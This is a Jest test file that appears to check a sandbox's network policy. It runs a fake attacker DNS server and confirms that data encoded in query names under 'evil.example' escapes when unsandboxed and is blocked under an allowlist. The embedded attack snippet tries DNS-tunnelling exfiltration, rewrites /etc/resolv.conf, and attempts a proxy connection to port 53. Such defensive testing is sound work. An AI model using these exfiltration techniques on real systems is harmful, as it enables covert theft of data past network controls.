import { beforeAll, expect, test } from '@jest/globals'
import {
  gatewaysOf,
  inSandbox,
  inTheOpen,
  letInto,
  newOutside,
  open,
  policyOf,
  saidBy,
  serve
} from './stage.js'

const outside = newOutside()
const nameServer = outside.address(5)
let server = ''

/** Answers everything, and notes what it was asked: the name is the message. */
const NAME_SERVER = `
  const socket = dgram.createSocket('udp4')
  socket.on('message', (question, from) => {
    let name = ''
    for (let at = 12; question[at]; at += question[at] + 1) name += question.toString('latin1', at + 1, at + 1 + question[at]) + '.'
    console.log('asked for ' + name)
    const answer = Buffer.concat([question.subarray(0, 12), question.subarray(12, 12 + name.length + 5), Buffer.from('c00c000100010000003c0004', 'hex'), Buffer.from([25, 1, 1, 1])])
    answer.writeUInt16BE(0x8180, 2)
    answer.writeUInt16BE(1, 6)
    answer.writeUInt32BE(0, 8)
    socket.send(answer, from.port, from.address)
  })
  socket.bind(53, () => console.log('listening'))
`

beforeAll(async () => {
  server = await serve({ network: outside.network, ip: nameServer }, NAME_SERVER)
})

const attack = (who: string) => `
  result('its own server', await ask('${nameServer}', 'secret.own.${who}.evil.example'))
  result('the resolver', await ask('127.0.0.11', 'secret.resolver.${who}.evil.example'))
  result('a look-up', await lookup('secret.look-up.${who}.evil.example'))
`

test('a name server of the attacker hears the secret in the open', async () => {
  const outcome = await inTheOpen({ network: outside.network }, attack('open'))
  expect(outcome['its own server']).toBe('answer 25.1.1.1')
  // That a name does not exist is something only somebody outside can have said.
  expect(outcome['a look-up']).toBe('ENOTFOUND')
  expect(saidBy(server)).toContain('asked for secret.own.open.evil.example.')
})

test.each(['closed', 'going on'])('it hears nothing from an allowlist (%s)', async kind => {
  const sandbox = await open(policyOf('allowlist', ['*.evil.example']), { willChange: kind === 'going on' })
  letInto(gatewaysOf()[0]!, { network: outside.network })
  const outcome = await inSandbox(
    sandbox,
    `${attack('sandbox')}
     for (const file of ['nameserver ${nameServer}', 'nameserver 127.0.0.11']) {
       ;(await import('node:fs')).writeFileSync('/etc/resolv.conf', file)
       result('a look-up by ' + file, await lookup('secret.other.sandbox.evil.example'))
     }
     result('through the proxy', await connectBy(env.HTTPS_PROXY, '${nameServer}:53'))`
  )
  for (const [name, how] of Object.entries(outcome)) {
    if (name === 'through the proxy') expect(how).toMatch(/^403/)
    else expect(how).toMatch(/^(ETIMEOUT|ECONNREFUSED|ESERVFAIL|EAI_AGAIN)$/)
  }
  expect(saidBy(server).filter(line => line.includes('sandbox'))).toEqual([])
  const { network } = await sandbox.close()
  expect(network.hosts).toContainEqual(expect.objectContaining({ host: nameServer, port: 53, refused: 1 }))
})
